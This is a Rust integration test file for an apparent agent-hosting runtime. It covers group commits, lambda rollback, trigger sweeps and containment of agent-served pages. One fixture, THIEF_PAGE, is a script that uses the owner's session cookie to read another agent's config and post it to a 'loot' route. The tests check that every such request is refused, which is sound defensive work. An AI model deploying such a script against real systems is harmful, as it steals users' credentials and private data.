        if word(at + 4) != 0 {
            commits += 1;
        }
        at += 24 + page_size;
    }
    commits
}

/// A route request is one write transaction: its `execute` row, the lambda's writes, `result`
/// and `api_response` commit once (the WAL gains one commit per request), in that order. A
/// lambda that throws has its writes rolled back; the log rows it wrote stay, between
/// `execute` and `result`.
#[tokio::test]
async fn srv_05_a_route_request_commits_once_and_a_throwing_lambda_keeps_only_its_log_rows() {
    let h = Harness::start().await;
    let agent = web_agent(
        &h,
        json!([
            { "method": "GET", "path": "/keeps", "lambda": "lib/writes.ts:keeps" },
            { "method": "GET", "path": "/throws", "lambda": "lib/writes.ts:throws" },
            route("GET", "/hello", "hello")
        ]),
        &[("lib/writes.ts", WRITING_ROUTES)],
        &[],
    )
    .await;
    // The first request opens the connections and may write what a first open writes.
    assert_eq!(get(&h, "/agents/web/hello").await.status, 200);
    let mut commits = Vec::new();
    for path in ["/hello", "/keeps", "/hello"] {
        let before = wal_commits(&agent.path);
        let got = get(&h, &format!("/agents/web{path}")).await;
        assert_eq!(got.status, 200, "{}", got.text());
        commits.push(wal_commits(&agent.path) - before);
    }
    assert_eq!(commits, vec![1, 1, 1], "one commit per route request");
    let thrown = get(&h, "/agents/web/throws").await;
    assert_eq!(thrown.status, 500, "{}", thrown.text());
    let files = paths(&agent, "data/").await;
    assert_eq!(
        files,
        vec!["data/kept.txt".to_owned()],
        "the throwing lambda's write is rolled back"
    );
    let rows = origin_event_levels(&agent, &["lambda", "serving", "emit_event"]).await;
    let throws_rows = &rows[rows.len() - 4..];
    assert_eq!(
        throws_rows,
        [
            "lambda execute info",
            "emit_event custom.before_throw info",
            "lambda result error",
            "serving api_response warn",
        ],
    );
    assert_eq!(
        rows[rows.len() - 7..rows.len() - 4],
        [
            "lambda execute info",
            "lambda result info",
            "serving api_response info",
        ]
    );
    h.stop().await;
}

/// Routes for the batch test: one that waits on a gate server, one that writes a file named
/// by its query (the throwing one is `WRITING_ROUTES`' `throws`).
const BATCH_ROUTES: &str = r#"
export async function hold(req) {
  const answer = await adf.sys_fetch({ url: req.query.gate });
  return { status: 200, body: "held " + answer.body };
}
export async function numbered(req) {
  await adf.fs_write({ path: `data/k${req.query.n}.txt`, content: "kept", mode: "write" });
  return { status: 200, body: "kept " + req.query.n };
}
"#;

/// Starts `GET /agents/web/hold` (`BATCH_ROUTES`' `hold`) against a gate server that takes
/// its request and answers `open` only when the returned sender fires; returns once the
/// request waits at the gate, so the agent's lane is busy with it.
async fn hold_at_a_gate(
    h: &Harness,
) -> (
    tokio::task::JoinHandle<reqwest::Result<String>>,
    tokio::sync::oneshot::Sender<()>,
) {
    let gate = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
    let gate_url = format!("http://{}/gate", gate.local_addr().unwrap());
    let (held_tx, held) = tokio::sync::oneshot::channel();
    let (open_tx, open) = tokio::sync::oneshot::channel::<()>();
    tokio::spawn(async move {
        use tokio::io::{AsyncReadExt as _, AsyncWriteExt as _};
        let (mut stream, _) = gate.accept().await.unwrap();
        let mut request = vec![0u8; 4096];
        let _ = stream.read(&mut request).await.unwrap();
        held_tx.send(()).unwrap();
        open.await.unwrap();
        stream
            .write_all(b"HTTP/1.1 200 OK\r\ncontent-length: 4\r\nconnection: close\r\n\r\nopen")
            .await
            .unwrap();
    });
    let url = format!("{}/agents/web/hold?gate={gate_url}", h.server.serve_url());
    let mut hold = tokio::spawn(async move { public_client().get(url).send().await?.text().await });
    tokio::select! {
        reached = held => reached.unwrap(),
        answered = &mut hold => panic!("the held request answered before it reached the gate: {answered:?}"),
    }
    (hold, open_tx)
}

/// Waits until five requests queue behind the one [`hold_at_a_gate`] holds, then opens the
/// gate and checks the held request's answer.
async fn open_the_gate_once_five_wait(
    h: &Harness,
    agent: &Agent,
    hold: tokio::task::JoinHandle<reqwest::Result<String>>,
    open: tokio::sync::oneshot::Sender<()>,
) {
    let serving = h.server.daemon.serving().unwrap();
    common::wait_for("five requests wait behind the held one", || async {
        serving.waiting_requests(&agent.id) == 5
    })
    .await;
    open.send(()).unwrap();
    assert_eq!(hold.await.unwrap().unwrap(), "held open");
}

/// Under load the log rows of requests that wrote nothing else wait in memory and commit
/// together: a request held at a gate and five read-only requests queued behind it make one
/// WAL commit between them (one per batch before), and once the last answer is in (no request
/// waits then) every request's `api_response` row is there, in arrival order (SRV-05, AUD-23).
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn srv_05_read_only_requests_behind_a_busy_agent_commit_their_log_rows_together() {
    let h = Harness::start().await;
    let agent = web_agent(
        &h,
        json!([
            { "method": "GET", "path": "/hold", "lambda": "lib/batch.ts:hold" },
            route("GET", "/hello", "hello"),
        ]),
        &[("lib/batch.ts", BATCH_ROUTES)],
        &[("security.allow_local_fetch", json!(true))],
    )
    .await;
    assert_eq!(get(&h, "/agents/web/hello").await.status, 200);
    let responses = || {
        let agent = &agent;
        async move {
            let rows = log_rows(agent).await.into_iter();
            let responses = rows.filter(|row| row.event.as_deref() == Some("api_response"));
            responses.map(|row| row.message).collect::<Vec<_>>()
        }
    };
    let logged_before = responses().await.len();
    let (hold, open_tx) = hold_at_a_gate(&h).await;
    let before = wal_commits(&agent.path);
    let queued: Vec<_> = (0..5)
        .map(|_| {
            let url = format!("{}/agents/web/hello", h.server.serve_url());
            tokio::spawn(async move { public_client().get(url).send().await.unwrap().status() })
        })
        .collect();
    open_the_gate_once_five_wait(&h, &agent, hold, open_tx).await;
    for answer in queued {
        assert_eq!(answer.await.unwrap().as_u16(), 200);
    }
    assert_eq!(
        wal_commits(&agent.path) - before,
        1,
        "the held request's log rows and the five after it commit once"
    );
    let mut expected = vec!["GET /hold → 200".to_owned()];
    expected.extend(std::iter::repeat_n("GET /hello → 200".to_owned(), 5));
    assert_eq!(responses().await[logged_before..], expected);
    h.stop().await;
}

/// Requests that queue for an agent's request thread while it is busy run as one batch in one
/// write transaction (group commit): the WAL gains fewer commits than requests, every
/// request's rows are there in order, and a lambda that throws in the middle of the batch
/// rolls back only its own writes, keeping its log rows (SRV-05).
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn srv_05_requests_queued_behind_a_busy_agent_commit_as_one_batch_and_a_throw_rolls_back_only_its_own_writes()
 {
    let h = Harness::start().await;
    let agent = web_agent(
        &h,
        json!([
            { "method": "GET", "path": "/hold", "lambda": "lib/batch.ts:hold" },
            { "method": "GET", "path": "/numbered", "lambda": "lib/batch.ts:numbered" },
            { "method": "GET", "path": "/throws", "lambda": "lib/writes.ts:throws" },
        ]),
        &[
            ("lib/batch.ts", BATCH_ROUTES),
            ("lib/writes.ts", WRITING_ROUTES),
        ],
        &[("security.allow_local_fetch", json!(true))],
    )
    .await;
    assert_eq!(get(&h, "/agents/web/numbered?n=0").await.status, 200);
    let (hold, open_tx) = hold_at_a_gate(&h).await;
    let before = wal_commits(&agent.path);
    let mut queued = Vec::new();
    for path in [
        "/numbered?n=1",
        "/numbered?n=2",
        "/throws",
        "/numbered?n=3",
        "/numbered?n=4",
    ] {
        let url = format!("{}/agents/web{path}", h.server.serve_url());
        queued.push(tokio::spawn(async move {
            let answer = public_client().get(url).send().await.unwrap();
            (answer.status().as_u16(), answer.text().await.unwrap())
        }));
    }
    open_the_gate_once_five_wait(&h, &agent, hold, open_tx).await;
    let mut answers = Vec::new();
    for answer in queued {
        answers.push(answer.await.unwrap());
    }
    let statuses: Vec<u16> = answers.iter().map(|(status, _)| *status).collect();
    assert_eq!(statuses, vec![200, 200, 500, 200, 200], "{answers:?}");
    let commits = wal_commits(&agent.path) - before;
    assert!(
        commits < 5,
        "five queued requests should commit together, not one by one: {commits} commits"
    );
    let files = paths(&agent, "data/").await;
    assert_eq!(
        files,
        [
            "data/k0.txt",
            "data/k1.txt",
            "data/k2.txt",
            "data/k3.txt",
            "data/k4.txt"
        ],
        "every kept write is there and the throwing lambda's write is rolled back"
    );
    let rows = origin_event_levels(&agent, &["lambda", "serving", "emit_event"]).await;
    // Requests arrive in any order; each one's rows stay together, in their own order.
    let kept = [
        "lambda execute info",
        "lambda result info",
        "serving api_response info",
    ];
    let thrown = [
        "lambda execute info",
        "emit_event custom.before_throw info",
        "lambda result error",
        "serving api_response warn",
    ];
    let mut groups: Vec<Vec<String>> = Vec::new();
    for row in &rows[rows.len() - (4 * kept.len() + thrown.len())..] {
        if row == "lambda execute info" {
            groups.push(Vec::new());
        }
        groups
            .last_mut()
            .expect("rows start with an execute row")
            .push(row.clone());
    }
    groups.sort();
    let mut expected = vec![thrown.map(str::to_owned).to_vec()];
    expected.extend((0..4).map(|_| kept.map(str::to_owned).to_vec()));
    expected.sort();
    assert_eq!(groups, expected, "{rows:?}");
    h.stop().await;
}

/// Records each `on_logs` event it receives as `seen/<log id>.md`.
const LOG_SEEN: &str = r#"
export async function seen(event) {
  await adf.fs_write({ path: `seen/${event.data.log_id}.md`, content: "seen", mode: "write" });
}
"#;

/// Route runs of an agent none of whose triggers is a row source (`on_logs`, `on_task_create`,
/// `on_inbox`, `on_outbox`) take no sweep job on its worker: the row marks move past their
/// rows instead. So an `on_logs` trigger added afterwards receives the rows written after it,
/// never the earlier ones (TRG-05's row source, SRV-05's route rows).
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn srv_05_trg_05_route_rows_nothing_reacts_to_take_no_sweep_and_a_later_on_logs_trigger_never_replays_them()
 {
    let h = Harness::start().await;
    let agent = web_agent(
        &h,
        json!([route("GET", "/hello", "hello")]),
        &[("lib/seen.ts", LOG_SEEN)],
        &[],
    )
    .await;
    // The first run may sweep (the agent's targets are read by a sweep's dispatch).
    common::wait_for("a route run passes its rows without a sweep", || async {
        assert_eq!(get(&h, "/agents/web/hello").await.status, 200);
        agent.triggers().stats().rows_passed > 0
    })
    .await;
    let passed = agent.triggers().stats().rows_passed;
    for _ in 0..3 {
        assert_eq!(get(&h, "/agents/web/hello").await.status, 200);
    }
    assert_eq!(
        agent.triggers().stats().rows_passed,
        passed + 3,
        "every run with known targets and no row source skips the sweep"
    );
    let responses = || {
        let agent = &agent;
        async move {
            let rows = logs_of(agent, "serving").await.into_iter();
            rows.map(|row| row.id.to_string()).collect::<Vec<_>>()
        }
    };
    assert!(responses().await.len() >= 4);

    let mut config = common::stored_config(&h, &agent).await;
    config["triggers"]["on_logs"] = json!({ "enabled": true, "targets": [
        { "scope": "system", "lambda": "lib/seen.ts:seen", "filter": { "origin": ["serving"] } }
    ] });
    common::put_config(&h, &agent, &config).await;
    let before = responses().await;
    assert_eq!(get(&h, "/agents/web/hello").await.status, 200);
    let after = responses().await;
    assert_eq!(after.len(), before.len() + 1);
    let fresh = after.last().unwrap().clone();
    common::wait_for("the new api_response row is seen", || async {
        !common::paths(&agent, "seen/").await.is_empty()
    })
    .await;
    common::drained(&agent).await;
    assert_eq!(
        common::paths(&agent, "seen/").await,
        vec![format!("seen/{fresh}.md")],
        "only the row written after the trigger was added"
    );
    h.stop().await;
}

// ---------------------------------------------------------------------------------------------
// Containment (issue 28 findings 3, 4 and 7): agent content on an origin of its own, no
// credentials for agent code, abandoned requests dropped.

/// A page an agent serves that tries what issue 28 showed: read another agent through the
/// control API with the owner's session. Its script never runs here; the test sends the
/// requests a browser would send for it.
const THIEF_PAGE: &str = r#"<!doctype html><script>
fetch(location.origin.replace(/:\d+$/, ":" + (Number(location.port) - 1)) + "/agents/victim/config",
      { credentials: "include" }).then(r => r.text()).then(t => fetch("/agents/web/loot", { method: "POST", body: t }));
</script>"#;

/// A browser session with `h`'s control API: the cookie `/login` sets.
async fn session_cookie(h: &Harness) -> String {
    let client = reqwest::Client::builder()
        .no_proxy()
        .redirect(reqwest::redirect::Policy::none())
        .build()
        .unwrap();
    let login = client.get(h.server.login_url()).send().await.unwrap();
    let cookie = login
        .headers()
        .get("set-cookie")
        .expect("the login sets a cookie")
        .to_str()
        .unwrap();
    cookie.split(';').next().unwrap().to_owned()
}

fn csp_of(got: &Got) -> Vec<String> {
    got.headers
        .get_all("content-security-policy")
        .iter()
        .map(|v| v.to_str().unwrap().to_owned())
        .collect()
}

/// A request to the control API as a browser sends it for a page: `origin` (when given),
/// `Sec-Fetch-Site` and the session cookie.
async fn as_browser(
    h: &Harness,
    method: Method,
    path: &str,
    origin: Option<&str>,
    cookie: &str,
    body: Option<(&str, &str)>,
) -> (u16, String) {
    let mut builder = public_client()
        .request(method, format!("{}{path}", h.server.url()))
        .header("cookie", cookie);
    if let Some(origin) = origin {
        builder = builder
            .header("origin", origin)
            .header("sec-fetch-site", "same-site");
    }
    if let Some((content_type, text)) = body {
        builder = builder
            .header("content-type", content_type)
            .body(text.to_owned());
    }
    let response = tokio::time::timeout(Duration::from_secs(30), builder.send())
        .await
        .unwrap()
        .unwrap();
    (response.status().as_u16(), response.text().await.unwrap())
}

#[tokio::test]
async fn srv_05_agent_content_has_its_own_origin_and_its_pages_cannot_reach_the_control_api() {
    let h = Harness::start().await;
    let web = web_agent(
        &h,
        json!([route("GET", "/page", "page")]),
        &[("public/index.html", THIEF_PAGE)],
        &[("serving.public", json!({ "enabled": true }))],
    )
    .await;
    let victim_path = agent_file(
        h.dir.path(),
        "victim",
        &[("notes/secret.md", "the victim's secret")],
        &[
            ("handle", json!("victim")),
            ("description", json!("victim-config-marker")),
        ],
    );
    let victim = load(&h, &victim_path).await;
    assert_ne!(h.server.serve_addr.port(), h.server.addr.port());
    assert_eq!(h.server.serve_addr.ip(), h.server.addr.ip());

    // The page and the HTML route are served on the serving port, sandboxed.
    let page = get(&h, "/agents/web/").await;
    assert_eq!(page.status, 200);
    assert!(page.text().contains("/agents/victim/config"));
    let route_page = get(&h, "/agents/web/page").await;
    assert_eq!(route_page.content_type, "text/html");
    for got in [&page, &route_page] {
        let csp = csp_of(got);
        assert!(
            csp.iter()
                .any(|p| p.split_whitespace().next() == Some("sandbox")),
            "{csp:?}"
        );
        assert!(
            !csp.iter().any(|p| p.contains("allow-same-origin")),
            "{csp:?}"
        );
    }

    // The control port serves no agent content: it sends the browser to the serving port.
    let control = reqwest::Client::builder()
        .no_proxy()
        .redirect(reqwest::redirect::Policy::none())
        .build()
        .unwrap();
    let moved = control
        .get(format!("{}/agents/web/?x=1", h.server.url()))
        .send()
        .await
        .unwrap();
    assert_eq!(moved.status().as_u16(), 307);
    assert_eq!(
        moved.headers()["location"].to_str().unwrap(),
        format!("{}/agents/web/?x=1", h.server.serve_url())
    );
    assert!(!moved.text().await.unwrap().contains("<script>"));

    // The owner's session works on the control port as the Studio uses it...
    let cookie = session_cookie(&h).await;
    let config_path = format!("/agents/{}/config", victim.id);
    let (status, body) = as_browser(&h, Method::GET, &config_path, None, &cookie, None).await;
    assert_eq!(status, 200, "{body}");
    assert!(body.contains("victim-config-marker"));
    // ...and every request the page can make with it is refused: from the serving origin
    // (the page opted out of the sandbox) or from the opaque origin the sandbox gives it.
    let serving_origin = h.server.serve_url();
    for origin in [serving_origin.as_str(), "null"] {
        let (status, body) =
            as_browser(&h, Method::GET, &config_path, Some(origin), &cookie, None).await;
        assert_eq!(status, 403, "read from {origin}: {body}");
        assert!(!body.contains("victim-config-marker"));
        let (status, _) = as_browser(
            &h,
            Method::PUT,
            &config_path,
            Some(origin),
            &cookie,
            Some((
                "application/json",
                r#"{"stream_bind":{"host_process_bind":true}}"#,
            )),
        )
        .await;
        assert_eq!(status, 403, "write from {origin}");
        let (status, _) = as_browser(
            &h,
            Method::POST,
            &format!("/agents/{}/files", victim.id),
            Some(origin),
            &cookie,
            Some(("text/plain", "path=x")),
        )
        .await;
        assert_eq!(status, 403, "form post from {origin}");
    }
    // The serving port answers nothing of the control API or the Studio, cookie or not.
    for path in [config_path.as_str(), "/", "/agents", "/runtime"] {
        let response = public_client()
            .get(format!("{}{path}", h.server.serve_url()))
            .header("cookie", &cookie)
            .header("authorization", format!("Bearer {}", h.token))
            .send()
            .await
            .unwrap();
        assert_eq!(response.status().as_u16(), 404, "{path}");
        assert!(
            !response
                .text()
                .await
                .unwrap()
                .contains("victim-config-marker")
        );
    }
    // Where agent content is served, as the runtime reports it.
    let runtime = h.client.get("/runtime").await.unwrap();
    assert_eq!(runtime["network"]["host"]["serve"], h.server.serve_url());

    // The owner may let one agent's pages run in the serving origin (never the Studio's).
    let path = format!("/agents/{}/config", web.id);
    let mut config = h.client.get(&path).await.unwrap()["config"].clone();
    config["serving"]["csp_sandbox"] = json!(false);
    h.client
        .call(Method::PUT, &path, Some(&config))
        .await
        .unwrap();
    let page = get(&h, "/agents/web/").await;
    assert_eq!(page.status, 200);
    assert!(csp_of(&page).is_empty(), "{:?}", csp_of(&page));
    h.stop().await;
}

const CREDENTIALS_ROUTES: &str = r#"
export async function echo(req) {
  return { status: 200, body: req };
}
export async function sets(req) {
  return { status: 200, headers: { "set-cookie": "adf_session=planted; Path=/", "x-kept": "yes" }, body: "ok" };
}
"#;

#[tokio::test]
async fn srv_05_route_lambdas_never_see_the_owners_cookie_or_token_and_cannot_set_cookies() {
    let h = Harness::start().await;
    let path = agent_file(
        h.dir.path(),
        "web",
        &[("lib/creds.ts", CREDENTIALS_ROUTES)],
        &[
            ("handle", json!("web")),
            (
                "serving.api",
                json!([
                    { "method": "GET", "path": "/echo", "lambda": "lib/creds.ts:echo" },
                    { "method": "GET", "path": "/sets", "lambda": "lib/creds.ts:sets" }
                ]),
            ),
        ],
    );
    load(&h, &path).await;
    let cookie = session_cookie(&h).await;
    let seen = public_client()
        .get(format!("{}/agents/web/echo", h.server.serve_url()))
        .header("cookie", format!("{cookie}; theme=dark"))
        .header("authorization", format!("Bearer {}", h.token))
        .header("proxy-authorization", "Basic c2VjcmV0")
        .header("x-visible", "kept")
        .send()
        .await
        .unwrap();
    assert_eq!(seen.status().as_u16(), 200);
    let text = seen.text().await.unwrap();
    let body: Value = serde_json::from_str(&text).unwrap();
    let headers = body["headers"].as_object().unwrap();
    assert_eq!(headers["x-visible"], "kept", "{text}");
    for name in ["cookie", "authorization", "proxy-authorization"] {
        assert!(
            !headers.contains_key(name),
            "{name} reached the lambda: {text}"
        );
    }
    assert!(!text.contains(&h.token), "the token reached the lambda");
    assert!(!text.contains(cookie.split('=').nth(1).unwrap()));

    let set = get(&h, "/agents/web/sets").await;
    assert_eq!(set.status, 200);
    assert_eq!(set.headers["x-kept"], "yes");
    assert!(
        set.headers.get("set-cookie").is_none(),
        "an agent set a cookie"
    );
    h.stop().await;
}

/// A request whose client leaves: written on a raw connection the test drops later.
async fn leaving_request(addr: std::net::SocketAddr, path: &str) -> tokio::net::TcpStream {
    let mut stream = tokio::net::TcpStream::connect(addr).await.unwrap();
    let head = format!("GET {path} HTTP/1.1\r\nHost: {addr}\r\n\r\n");
    stream.write_all(head.as_bytes()).await.unwrap();
    stream
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn srv_05_requests_whose_clients_left_are_dropped_and_a_spinning_lambda_is_interrupted() {
    let h = Harness::start().await;
    let web = web_agent(
        &h,
        json!([
            route("GET", "/spins", "spins"),
            route("GET", "/hello", "hello")
        ]),
        &[],
        &[],
    )
    .await;
    let other_path = agent_file(
        h.dir.path(),
        "other",
        &[("lib/routes.ts", ROUTES)],
        &[
            ("handle", json!("other")),
            ("serving.api", json!([route("GET", "/hello", "hello")])),
        ],
    );
    load(&h, &other_path).await;
    let serving = h.server.daemon.serving().unwrap();
    let slots = serving.limits().max_in_flight_per_agent;
    let lambda_timeout = serving.limits().lambda_timeout;

    // Every slot of the agent taken by a spinning request: one runs, the rest queue.
    let mut leaving = Vec::new();
    for _ in 0..slots {
        leaving.push(leaving_request(h.server.serve_addr, "/agents/web/spins").await);
    }
    // (A batch takes every request waiting when it starts: how many still wait in the queue
    // depends on how they arrived, the number in flight does not.)
    common::wait_for("every spinning request to be in", || async {
        serving.requests_in_flight(&web.id) == slots
    })
    .await;
    let busy = get(&h, "/agents/web/hello").await;
    assert_eq!(busy.status, 503, "{}", busy.text());
    assert_eq!(busy.json()["code"], "AGENT_BUSY");
    // Other agents are unaffected meanwhile.
    let other = get(&h, "/agents/other/hello").await;
    assert_eq!(other.status, 200, "{}", other.text());

    // The clients leave: the agent answers again long before one lambda's time limit.
    drop(leaving);
    let left = std::time::Instant::now();
    let bound = lambda_timeout / 3;
    loop {
        let fresh = get(&h, "/agents/web/hello").await;
        if fresh.status == 200 {
            assert_eq!(fresh.text(), "hello from /hello");
            break;
        }
        assert_eq!(fresh.json()["code"], "AGENT_BUSY", "{}", fresh.text());
        assert!(
            left.elapsed() < bound,
            "the agent still busy {} ms after its clients left",
            left.elapsed().as_millis()
        );
        tokio::time::sleep(Duration::from_millis(20)).await;
    }
    assert_eq!(serving.waiting_requests(&web.id), 0);
    h.stop().await;
}
